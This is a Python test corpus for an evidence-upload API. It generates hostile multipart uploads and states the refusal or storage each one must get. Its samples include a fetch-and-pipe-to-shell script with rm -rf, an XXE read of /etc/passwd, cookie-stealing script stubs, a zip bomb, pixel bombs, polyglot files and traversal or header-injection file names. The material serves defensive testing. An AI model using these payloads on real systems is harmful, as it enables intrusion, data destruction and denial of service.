"""A corpus of hostile evidence uploads (issue 4), every one generated here in memory.

Each :class:`Case` is a whole request body (raw multipart, so broken framing and hostile
file names reach the server exactly as an attacker would send them) and the outcome the
API must give: refused with an HTTP status and a stable problem ``code``, or stored (201)
with the content type it was detected as. ``test_hostile.py`` runs each one and checks
that nothing is left behind on refusal and that stored files are served harmlessly.

Policy the corpus pins down (README, "Evidence files"):

* Typed by content, not by name: JPEG, PNG, GIF, WebP, HEIC/HEIF, PDF and UTF-8 text.
  Anything else (HTML, SVG, XML, executables, archives, office files) is 415, and so is a
  name's extension or a declared type that contradicts the content.
* Images and PDFs are never decoded or rewritten on the server (their SHA-256 is the chain
  of custody, and decoding untrusted images is an attack surface of its own). A PNG with
  HTML after its end and a PDF with JavaScript are stored as they are and only ever served
  as attachments with ``nosniff`` and ``Content-Security-Policy: sandbox``, so no browser
  renders them in our origin.
* An image's header is read for its pixel dimensions (issue 13): beyond
  ``EVIDENCE_MAX_IMAGE_PIXELS`` or ``EVIDENCE_MAX_IMAGE_SIDE`` (a PNG claiming 4 billion
  pixels, a 30000 x 30000 PNG of a few dozen bytes) it is 422 ``image_too_large``; an
  image whose header cannot be read (cut short) is 415.
* A file that also carries an archive is refused wherever the archive sits (issue 13):
  ZIP (JPEG+ZIP, GIFAR, PDF+ZIP, with bytes after it or in the middle), RAR, 7z, xz,
  gzip, bzip2, tar and CAB, each found by a structurally valid record, so real photos and
  PDFs whose compressed data holds the same few bytes by chance are still accepted.
* A shell script is text: as UTF-8 text named .txt it is stored as an inert text/plain
  attachment; named .sh it is refused (the extension does not match the content).
* The client's file name is metadata only (storage uses a random name): it is NFKC
  normalised, reduced to its last path component, stripped of control and bidi
  characters and of leading/trailing dots, and cut to 120 characters.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from PIL import Image

from tests.evidence import files

BOUNDARY = "hostile-7MA4YWxkTrZu0gW"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
MB = 1024 * 1024
# The per-file limit (EVIDENCE_MAX_FILE_MB) the corpus runs with, to keep "too large" small.
LIMIT_MB = 1


@dataclass(frozen=True)
class Case:
    id: str
    why: str
    body: Callable[[], bytes]  # the whole request body
    status: int  # 201 when stored
    code: str = ""  # the problem code when refused
    stored_as: str = ""  # the detected content type when stored
    file_name: str | None = None  # the sanitized name kept when stored
    content: Callable[[], bytes] | None = None  # the file's bytes, to compare when stored
    content_type: str = MULTIPART  # the request's Content-Type header
    meta: Mapping[str, str] = field(default_factory=dict)  # WSGI environ overrides
    settings: Mapping[str, Any] = field(default_factory=dict)


# --- Building bodies -----------------------------------------------------------------------------


def part(
    field_name: str,
    content: bytes,
    *,
    filename: str | bytes | None = None,
    content_type: str | None = None,
    headers: tuple[str, ...] = (),
) -> bytes:
    disposition = f'Content-Disposition: form-data; name="{field_name}"'.encode()
    if filename is not None:
        raw = filename if isinstance(filename, bytes) else filename.encode("utf-8")
        disposition += b'; filename="' + raw + b'"'
    lines = [disposition]
    if content_type is not None:
        lines.append(f"Content-Type: {content_type}".encode())
    lines += [h.encode() for h in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + content


def multipart(*parts: bytes, boundary: str = BOUNDARY, close: bool = True) -> bytes:
    sep = f"--{boundary}".encode()
    body = b"".join(sep + b"\r\n" + p + b"\r\n" for p in parts)
    return body + (sep + b"--\r\n" if close else b"")


def upload(
    id: str,
    why: str,
    name: str | bytes,
    make: Callable[[], bytes],
    declared: str | None = "application/octet-stream",
    *,
    status: int,
    code: str = "",
    stored_as: str = "",
    file_name: str | None = None,
    **extra: Any,
) -> Case:
    """One well-framed upload of ``make()`` as the field ``file``."""

    def body() -> bytes:
        return multipart(part("file", make(), filename=name, content_type=declared))

    if status == 415 and not code:
        code = "unsupported_file_type"
    return Case(id, why, body, status, code, stored_as, file_name, content=make, **extra)


def refused(id: str, why: str, name: str, make: Callable[[], bytes], declared: str = "") -> Case:
    return upload(id, why, name, make, declared or "application/octet-stream", status=415)


def stored(
    id: str,
    why: str,
    name: str | bytes,
    make: Callable[[], bytes],
    content_type: str,
    file_name: str | None = None,
    declared: str = "application/octet-stream",
) -> Case:
    return upload(
        id, why, name, make, declared, status=201, stored_as=content_type, file_name=file_name
    )


# --- Generated content ---------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def zip_bomb(member_mb: int = 64) -> bytes:
    """A ~64 KB zip whose one member inflates to ``member_mb`` MB of zeros."""
    buf = io.BytesIO()
    zero = bytes(MB)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("bomb.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(member_mb):
            member.write(zero)
    return buf.getvalue()


def docx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


def png_pixel_bomb() -> bytes:
    """A PNG whose header claims 65535 x 65535 RGBA pixels (16 GB decoded), with 1 row."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 65535, 65535, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(65535 * 4 + 1)))
        + chunk(b"IEND", b"")
    )


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
PDF_JS = (
    b"%PDF-1.7\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('pwned'))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(48)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\0\0\0"
PE += bytes(0x80 - len(PE)) + b"PE\x00\x00\x64\x86" + bytes(18)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(16)
SHEBANG = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\nrm -rf ~/\n"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + zlib.compress(b"x" * 100)[2:-4] + bytes(8)
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(24)


# --- Archives behind an accepted type, and pixel bombs (issue 13) --------------------------------


def zip_payload() -> bytes:
    return _zip([("payload.exe", PE), ("readme.txt", b"run payload.exe\n")])


def rar5() -> bytes:
    """An empty RAR 5 archive: the signature, a main archive header, the end header."""

    def header(kind: int) -> bytes:
        body = bytes([kind, 0, 0])  # type, header flags, archive/end flags
        data = bytes([len(body)]) + body
        return struct.pack("<I", zlib.crc32(data)) + data

    return b"Rar!\x1a\x07\x01\x00" + header(1) + header(5)


def rar4() -> bytes:
    """An empty RAR 4 archive: the marker block, then the archive header (type 0x73)."""
    main = b"\x73\x00\x00\x0d\x00" + bytes(6)
    return b"Rar!\x1a\x07\x00" + struct.pack("<H", zlib.crc32(main) & 0xFFFF) + main + bytes(7)


def seven_zip() -> bytes:
    """A 7z signature header (version 0.4) with its start header CRC, and an empty header."""
    next_header = b"\x01\x00"  # kHeader, kEnd
    start = struct.pack("<QQI", 0, len(next_header), zlib.crc32(next_header))
    return (
        b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + next_header
    )


def cab() -> bytes:
    """The header of a Microsoft Cabinet (version 1.3) with one folder and one file."""
    header = b"MSCF" + bytes(4) + struct.pack("<I", 80) + bytes(4) + struct.pack("<I", 44)
    header += bytes(4) + b"\x03\x01" + struct.pack("<HHHHH", 1, 1, 0, 0, 0)
    return header + bytes(80 - len(header))


def tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("payload.sh")
        info.size = len(SHEBANG)
        t.addfile(info, io.BytesIO(SHEBANG))
    return buf.getvalue()


def jpeg_with_segment(payload: bytes) -> bytes:
    """A real JPEG with ``payload`` in a comment (COM) segment: still a valid image."""
    image = files.jpeg()
    return image[:2] + b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload + image[2:]


def png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims width x height grey pixels, with a tiny IDAT (one row of
    a 1x1 image): a few dozen bytes, never the gigabytes it claims."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header (SOF0) is rewritten to claim width x height."""
    image = bytearray(files.jpeg())
    sof = image.index(b"\xff\xc0")
    image[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(image)


def gif_claiming(width: int, height: int) -> bytes:
    image = bytearray(files.gif())
    image[6:10] = struct.pack("<HH", width, height)
    return bytes(image)


def webp_claiming(width: int, height: int) -> bytes:
    """An extended (VP8X) WebP whose canvas is width x height."""
    vp8x = b"\x00" * 4 + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    chunk = b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


@cache  # Pillow dates its PDFs: the same call must give the same bytes
def photo(fmt: str, size: tuple[int, int] = (96, 64), seed: int = 7) -> bytes:
    """A real image of noise (which compresses like a photo's detail), written by Pillow."""
    rng = random.Random(seed)
    image = Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))
    buf = io.BytesIO()
    image.save(buf, fmt)
    return buf.getvalue()


# Signatures as they turn up by chance in compressed data: the magic bytes, but not the
# record an archive tool needs around them.
CHANCE_SIGNATURES = (
    b"PK\x03\x04\xff\xee\x63\x00" + bytes(22),  # version 238, method 99: no sane header
    b"PK\x01\x02" + bytes(42) + b"\xde\xad",  # a central header with nothing after it
    b"PK\x05\x06"
    + bytes(4)
    + b"\x01\x00\x01\x00"
    + b"\x2e\x00\x00\x00"
    + b"\x10\x00\x00\x00\x00\x00",
    b"Rar!\x1a\x07\x01\x00" + b"\x11" * 8,
    b"7z\xbc\xaf\x27\x1c\x09\x09",
    b"\xfd7zXZ\x00\x00\x01\xde\xad\xbe\xef",
    b"\x1f\x8b\x08\x00" + bytes(6) + b"\xff\xff\xff\xff",
    b"MSCF\x00\x00\x00\x00\x01\x02",
    b"BZh9\x00\x00",
    b"mustard, ustar\x0000" + bytes(300),
)


def pdf_with(payload: bytes) -> bytes:
    """A PDF with ``payload`` as the raw bytes of an (uncompressed) stream object."""
    stream = b"3 0 obj<</Length " + str(len(payload)).encode() + b">>stream\n"
    return files.pdf().replace(b"trailer", stream + payload + b"\nendstream endobj\ntrailer")


def _pdf() -> bytes:
    return files.pdf()


# --- The corpus ----------------------------------------------------------------------------------

CORPUS: list[Case] = [
    # Markup and scripts pretending to be images or documents.
    refused("html_named_jpg", "HTML sniffed as a page", "photo.jpg", lambda: HTML, "image/jpeg"),
    refused(
        "html_named_png_declared_png",
        "HTML with PNG name and type",
        "a.png",
        lambda: HTML,
        "image/png",
    ),
    refused(
        "svg_script_named_png", "SVG runs script when rendered", "a.png", lambda: SVG, "image/png"
    ),
    refused(
        "svg_script_as_svg",
        "SVG is not an accepted image type",
        "a.svg",
        lambda: SVG,
        "image/svg+xml",
    ),
    refused(
        "xml_named_txt",
        "XML (XXE bait) is not plain text",
        "data.txt",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        ),
        "text/plain",
    ),
    stored(
        "pdf_with_javascript",
        "PDFs are allowed; served as a sandboxed attachment",
        "claim.pdf",
        lambda: PDF_JS,
        "application/pdf",
        "claim.pdf",
        declared="application/pdf",
    ),
    # Executables.
    refused("elf_named_jpg", "Linux executable", "photo.jpg", lambda: ELF, "image/jpeg"),
    refused("pe_named_pdf", "Windows executable", "invoice.pdf", lambda: PE, "application/pdf"),
    refused("pe_named_exe", "Windows executable", "setup.exe", lambda: PE),
    refused("macho_named_png", "macOS executable", "shot.png", lambda: MACHO, "image/png"),
    stored(
        "shebang_script_txt",
        "UTF-8 text, stored as an inert text/plain attachment",
        "notes.txt",
        lambda: SHEBANG,
        "text/plain",
        "notes.txt",
        declared="text/plain",
    ),
    refused(
        "shebang_script_sh", "text content, but named .sh", "fix.sh", lambda: SHEBANG, "text/x-sh"
    ),
    # Polyglots.
    refused(
        "jpeg_zip_polyglot",
        "a JPEG that is also a ZIP",
        "photo.jpg",
        lambda: files.jpeg() + _zip([("payload.exe", PE)]),
        "image/jpeg",
    ),
    refused(
        "gifar",
        "a GIF that is also a JAR",
        "anim.gif",
        lambda: files.gif() + _zip([("META-INF/MANIFEST.MF", b"Main-Class: X\n")]),
        "image/gif",
    ),
    stored(
        "png_trailing_html",
        "a real PNG; the HTML after IEND is inert as an attachment",
        "photo.png",
        lambda: files.png() + HTML,
        "image/png",
        "photo.png",
        declared="image/png",
    ),
    upload(
        "png_pixel_bomb",
        "65535 x 65535 RGBA: 16 GB decoded, refused by its header",
        "huge.png",
        png_pixel_bomb,
        status=422,
        code="image_too_large",
    ),
    # Empty and truncated.
    refused("zero_bytes", "an empty file is not evidence", "empty.png", lambda: b"", "image/png"),
    refused("one_byte", "one byte of nothing", "one.png", lambda: b"\x89", "image/png"),
    refused(
        "truncated_jpeg",
        "JPEG magic only: no frame header to measure",
        "cut.jpg",
        lambda: b"\xff\xd8\xff\xe0",
    ),
    refused(
        "truncated_png",
        "PNG signature only: no IHDR to measure",
        "cut.png",
        lambda: b"\x89PNG\r\n\x1a\n",
    ),
    # Hostile names: the name is metadata, the file is stored under a random name.
    stored(
        "name_traversal_unix",
        "path traversal",
        "../../etc/passwd.png",
        files.png,
        "image/png",
        "passwd.png",
    ),
    stored(
        "name_traversal_windows",
        "path traversal",
        "..\\..\\win.ini.png",
        files.png,
        "image/png",
        "win.ini.png",
    ),
    stored("name_absolute", "absolute path", "/etc/x.png", files.png, "image/png", "x.png"),
    stored(
        "name_entity_traversal",
        "HTML entities decode to a path",
        "..&#47;..&#47;x.png",
        files.png,
        "image/png",
        "x.png",
    ),
    stored(
        "name_fullwidth_traversal",
        "fullwidth solidus: NFKC turns it into a path",
        "..\uff0f..\uff0fetc\uff0fpasswd\uff0epng",
        files.png,
        "image/png",
        "passwd.png",
    ),
    stored(
        "name_nul_byte",
        "NUL byte truncates names in C",
        b"evil\x00.php.png",
        files.png,
        "image/png",
        "evil.php.png",
    ),
    stored(
        "name_control_chars",
        "control characters",
        "a\x07b\x1bc\x7f.png",
        files.png,
        "image/png",
        "abc.png",
    ),
    stored(
        "name_header_injection",
        "CR LF (as entities) in the name",
        "a&#13;&#10;Set-Cookie: x=1.png",
        files.png,
        "image/png",
        "aSet-Cookie: x=1.png",
    ),
    refused(
        "name_rtl_override",
        "U+202E shows invoice\u202efdp.exe as invoiceexe.pdf",
        "invoice\u202efdp.exe",
        _pdf,
        "application/pdf",
    ),
    stored(
        "name_300_chars",
        "a long name is cut, keeping the extension",
        "a" * 296 + ".png",
        files.png,
        "image/png",
        "a" * 116 + ".png",
    ),
    upload(
        "name_1000_chars",
        "part headers over 1 KB are not parsed (Django)",
        "a" * 996 + ".png",
        files.png,
        status=400,
        code="invalid",
    ),
    stored("name_only_dots", "nothing left of the name", ".....", files.png, "image/png", "upload"),
    upload(
        "name_empty",
        "a part without a file name is not a file",
        "",
        files.png,
        status=400,
        code="invalid",
    ),
    refused(
        "name_double_extension",
        "named .exe after the image extension",
        "photo.png.exe",
        files.png,
        "image/png",
    ),
    # Declared type contradicts the content.
    refused(
        "png_declared_pdf",
        "declared type contradicts content",
        "photo.png",
        files.png,
        "application/pdf",
    ),
    refused("png_declared_html", "declared as a page", "photo.png", files.png, "text/html"),
    refused("png_named_jpg", "named as another image type", "photo.jpg", files.png, "image/jpeg"),
    # Text that is not plain UTF-8.
    refused(
        "text_latin1",
        "not UTF-8",
        "letter.txt",
        lambda: "Grüße, ça va?\n".encode("latin-1"),
        "text/plain",
    ),
    refused(
        "text_utf16_bom",
        "UTF-16 with a BOM",
        "letter.txt",
        lambda: "hello\n".encode("utf-16"),
        "text/plain",
    ),
    refused(
        "text_with_nul", "NUL bytes in text", "notes.txt", lambda: b"abc\x00def\n", "text/plain"
    ),
    refused(
        "text_ansi_escapes",
        "terminal escape sequences",
        "log.txt",
        lambda: b"ok\x1b]0;pwned\x07\x1b[2J\n",
        "text/plain",
    ),
    # Archives.
    refused(
        "zip_bomb_named_png",
        "64 MB of zeros in a 64 KB zip, never inflated",
        "bomb.png",
        zip_bomb,
        "image/png",
    ),
    refused("gzip_named_jpg", "gzip", "photo.jpg", lambda: GZIP, "image/jpeg"),
    refused("7z_named_pdf", "7-Zip", "doc.pdf", lambda: SEVEN_Z, "application/pdf"),
    refused("rar_named_png", "RAR", "photo.png", lambda: RAR, "image/png"),
    refused(
        "docx_named_pdf",
        "an office file (a zip) named .pdf",
        "contract.pdf",
        docx,
        "application/pdf",
    ),
    # Accepted image types of DESIGN §7 that are easy to get wrong.
    stored(
        "webp",
        "WebP is accepted",
        "photo.webp",
        files.webp,
        "image/webp",
        "photo.webp",
        declared="image/webp",
    ),
    stored(
        "heic",
        "HEIC (ftyp heic) is accepted as image/heic",
        "IMG_0001.HEIC",
        files.heic,
        "image/heic",
        "IMG_0001.HEIC",
        declared="image/heic",
    ),
    stored(
        "heic_mif1_major",
        "HEIC with major brand mif1",
        "IMG_0002.heic",
        lambda: files.heic(b"mif1", (b"mif1", b"heic")),
        "image/heic",
        "IMG_0002.heic",
    ),
    refused(
        "avif_named_heic",
        "AVIF is not accepted",
        "photo.heic",
        lambda: files.heic(b"avif", (b"mif1", b"avif", b"miaf")),
        "image/heic",
    ),
    refused(
        "mp4_named_heic",
        "a video is not accepted",
        "clip.heic",
        lambda: files.heic(b"isom", (b"isom", b"iso2", b"mp41")),
        "image/heic",
    ),
    # Sizes.
    upload(
        "just_over_the_limit",
        "cut off while streaming",
        "big.txt",
        lambda: b"a" * (LIMIT_MB * MB + 1),
        "text/plain",
        status=413,
        code="file_too_large",
    ),
    stored(
        "exactly_the_limit",
        "the limit itself is allowed",
        "big.txt",
        lambda: b"a" * (LIMIT_MB * MB),
        "text/plain",
        "big.txt",
    ),
    upload(
        "huge_declared_length",
        "2 GB declared, a few bytes sent: refused before reading",
        "small.png",
        files.png,
        status=413,
        code="file_too_large",
        meta={"CONTENT_LENGTH": str(2 * 1024**3)},
    ),
]


def _framing(
    id: str,
    why: str,
    body: Callable[[], bytes],
    status: int,
    code: str,
    content_type: str = MULTIPART,
    **extra: Any,
) -> Case:
    return Case(id, why, body, status, code, content_type=content_type, **extra)


def _file_part(name: str = "photo.png") -> bytes:
    return part("file", files.png(), filename=name, content_type="image/png")


CORPUS += [
    # Multipart framing.
    _framing(
        "missing_closing_boundary",
        "the body ends inside the file part",
        lambda: multipart(_file_part(), close=False),
        400,
        "invalid",
    ),
    _framing(
        "boundary_mismatch",
        "the body uses another boundary than the header",
        lambda: multipart(_file_part(), boundary="something-else"),
        400,
        "invalid",
    ),
    _framing(
        "no_boundary_parameter",
        "multipart without a boundary",
        lambda: multipart(_file_part()),
        400,
        "invalid",
        content_type="multipart/form-data",
    ),
    _framing(
        "invalid_boundary",
        "a boundary with forbidden characters",
        lambda: multipart(_file_part(), boundary="a\tb"),
        400,
        "invalid",
        content_type='multipart/form-data; boundary="a\tb"',
    ),
    _framing(
        "garbage_body",
        "random bytes instead of parts",
        lambda: bytes(range(256)) * 8,
        400,
        "invalid",
    ),
    _framing(
        "part_headers_never_end",
        "a part whose headers have no blank line",
        lambda: (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="a.png"\r\n'.encode()
            + b"X-Pad: "
            + b"x" * 2048
        ),
        400,
        "invalid",
    ),
    _framing(
        "json_body",
        "not multipart at all",
        lambda: b'{"file": "iVBORw0KGgo="}',
        415,
        "unsupported_media_type",
        content_type="application/json",
    ),
    _framing(
        "urlencoded_body",
        "a form without files",
        lambda: b"file=photo.png",
        415,
        "unsupported_media_type",
        content_type="application/x-www-form-urlencoded",
    ),
    _framing(
        "two_file_parts",
        "which one would be stored? neither",
        lambda: multipart(_file_part("a.png"), _file_part("b.png")),
        400,
        "invalid",
    ),
    _framing(
        "file_under_another_field",
        "the file must be the field `file`",
        lambda: multipart(part("attachment", files.png(), filename="a.png")),
        400,
        "invalid",
    ),
    _framing(
        "missing_file",
        "only the text fields",
        lambda: multipart(part("description", b"see attached")),
        400,
        "invalid",
    ),
    _framing(
        "bad_base64_transfer_encoding",
        "a file part that is not valid base64",
        lambda: multipart(
            part(
                "file",
                b"!!!not base64!!!",
                filename="a.png",
                headers=("Content-Transfer-Encoding: base64",),
            )
        ),
        400,
        "invalid",
    ),
    Case(
        "base64_transfer_encoding",
        "decoded by the parser, then typed by content",
        lambda: multipart(
            part(
                "file",
                base64.b64encode(files.png()),
                filename="a.png",
                headers=("Content-Transfer-Encoding: base64",),
            )
        ),
        201,
        stored_as="image/png",
        file_name="a.png",
        content=files.png,
    ),
    _framing(
        "negative_content_length",
        "Content-Length: -1",
        lambda: multipart(_file_part()),
        400,
        "invalid",
        meta={"CONTENT_LENGTH": "-1"},
    ),
    _framing(
        "short_content_length",
        "Content-Length shorter than the body",
        lambda: multipart(_file_part()),
        400,
        "invalid",
        meta={"CONTENT_LENGTH": "120"},
    ),
    _framing(
        "too_many_fields",
        "more fields than DATA_UPLOAD_MAX_NUMBER_FIELDS",
        lambda: multipart(*(part(f"f{i}", b"x") for i in range(20)), _file_part()),
        400,
        "invalid",
        settings={"DATA_UPLOAD_MAX_NUMBER_FIELDS": 10},
    ),
    _framing(
        "huge_text_field",
        "a description beyond DATA_UPLOAD_MAX_MEMORY_SIZE",
        lambda: multipart(part("description", b"x" * 4096), _file_part()),
        413,
        "request_too_large",
        settings={"DATA_UPLOAD_MAX_MEMORY_SIZE": 1024},
    ),
    _framing(
        "bad_kind",
        "an unknown kind of evidence",
        lambda: multipart(part("kind", b"../../etc"), _file_part()),
        400,
        "invalid",
    ),
]

MP = 1_000_000

CORPUS += [
    # Archives hidden behind an accepted type, wherever they sit (issue 13).
    refused(
        "jpeg_zip_one_trailing_byte",
        "JPEG+ZIP with one byte after the end record: unzip still opens it",
        "photo.jpg",
        lambda: files.jpeg() + zip_payload() + b"\x00",
        "image/jpeg",
    ),
    refused(
        "pdf_zip_polyglot",
        "PDF+ZIP, then a PDF-looking tail",
        "invoice.pdf",
        lambda: files.pdf() + zip_payload() + b"\n%%EOF\n",
        "application/pdf",
    ),
    refused(
        "zip_then_jpeg",
        "a ZIP first, a JPEG after it",
        "photo.jpg",
        lambda: zip_payload() + files.jpeg(),
        "image/jpeg",
    ),
    refused(
        "zip_in_the_middle_of_a_jpeg",
        "a ZIP inside a JPEG comment segment, the image intact around it",
        "photo.jpg",
        lambda: jpeg_with_segment(zip_payload()),
        "image/jpeg",
    ),
    refused(
        "zip_local_headers_only",
        "a ZIP without its central directory: stream readers still extract it",
        "photo.png",
        lambda: files.png() + zip_payload()[: zip_payload().index(b"PK\x01\x02")],
        "image/png",
    ),
    refused("png_rar5", "RAR 5 behind a PNG", "photo.png", lambda: files.png() + rar5()),
    refused("png_rar4", "RAR 4 behind a PNG", "photo.png", lambda: files.png() + rar4()),
    refused("png_7z", "7-Zip behind a PNG", "photo.png", lambda: files.png() + seven_zip()),
    refused(
        "jpeg_gzip",
        "gzip inside a JPEG",
        "photo.jpg",
        lambda: jpeg_with_segment(gzip.compress(SHEBANG)),
    ),
    refused("pdf_xz", "xz behind a PDF", "doc.pdf", lambda: files.pdf() + lzma.compress(SHEBANG)),
    refused("gif_bzip2", "bzip2 behind a GIF", "anim.gif", lambda: files.gif() + bz2.compress(PE)),
    refused("png_tar", "a tar behind a PNG", "photo.png", lambda: files.png() + tar()),
    refused("pdf_cab", "a Cabinet behind a PDF", "doc.pdf", lambda: files.pdf() + cab()),
    refused(
        "png_packed_with_near_zip_records",
        "thousands of ZIP headers failing only their last check: suspect, not searched on",
        "photo.png",
        lambda: (
            files.png()
            + (b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, 2**31, 0, 0, 0)) * 2000
        ),
    ),
    # Real files that hold archive signatures by chance are still accepted.
    stored(
        "jpeg_with_chance_signatures",
        "archive magic bytes in a comment, no archive record around them",
        "photo.jpg",
        lambda: jpeg_with_segment(b"".join(CHANCE_SIGNATURES)),
        "image/jpeg",
        "photo.jpg",
    ),
    stored(
        "pdf_with_chance_signatures",
        "archive magic bytes in a stream, no archive record around them",
        "doc.pdf",
        lambda: pdf_with(b"".join(CHANCE_SIGNATURES)),
        "application/pdf",
        "doc.pdf",
    ),
    stored("real_jpeg", "a JPEG written by Pillow", "p.jpg", lambda: photo("JPEG"), "image/jpeg"),
    stored("real_png", "a PNG written by Pillow", "p.png", lambda: photo("PNG"), "image/png"),
    stored("real_webp", "a WebP written by Pillow", "p.webp", lambda: photo("WEBP"), "image/webp"),
    stored("real_gif", "a GIF written by Pillow", "p.gif", lambda: photo("GIF"), "image/gif"),
    stored("real_pdf", "a PDF written by Pillow", "p.pdf", lambda: photo("PDF"), "application/pdf"),
    # Pixel bombs: measured by the header, refused before anything is stored (issue 13).
    upload(
        "png_30000_square",
        "30000 x 30000: 900 MP in a few dozen bytes",
        "huge.png",
        lambda: png_claiming(30_000, 30_000),
        status=422,
        code="image_too_large",
    ),
    upload(
        "png_just_over_the_pixels",
        "8000 x 6251: just over 50 MP",
        "big.png",
        lambda: png_claiming(8000, 6251),
        status=422,
        code="image_too_large",
    ),
    stored(
        "png_exactly_the_pixels",
        "8000 x 6250: 50 MP, the limit itself is allowed",
        "big.png",
        lambda: png_claiming(8000, 6250),
        "image/png",
    ),
    upload(
        "jpeg_too_wide",
        "30000 x 10: few pixels, but a side beyond 20000",
        "strip.jpg",
        lambda: jpeg_claiming(30_000, 10),
        status=422,
        code="image_too_large",
    ),
    upload(
        "jpeg_65535_square",
        "the largest JPEG frame: 4.3 GP",
        "huge.jpg",
        lambda: jpeg_claiming(65_535, 65_535),
        status=422,
        code="image_too_large",
    ),
    upload(
        "gif_65535_square",
        "a GIF screen of 65535 x 65535",
        "huge.gif",
        lambda: gif_claiming(65_535, 65_535),
        status=422,
        code="image_too_large",
    ),
    upload(
        "webp_canvas_bomb",
        "a WebP canvas of 16384 x 16384 (268 MP), never handed to libwebp",
        "huge.webp",
        lambda: webp_claiming(16_384, 16_384),
        status=422,
        code="image_too_large",
    ),
    upload(
        "heic_30000_square",
        "an HEIC whose primary image claims 30000 x 30000",
        "IMG_9999.HEIC",
        lambda: files.heic(sizes=((30_000, 30_000), (512, 512))),
        status=422,
        code="image_too_large",
    ),
    refused(
        "heic_without_ispe",
        "an HEIC whose image items have no size",
        "IMG_0003.heic",
        lambda: files.heic(sizes=()),
    ),
    refused(
        "png_cut_in_ihdr",
        "a PNG cut inside its header",
        "cut.png",
        lambda: png_claiming(100, 100)[:20],
    ),
    refused(
        "webp_cut_in_header",
        "a WebP cut before its canvas size",
        "cut.webp",
        lambda: files.webp()[:18],
    ),
]
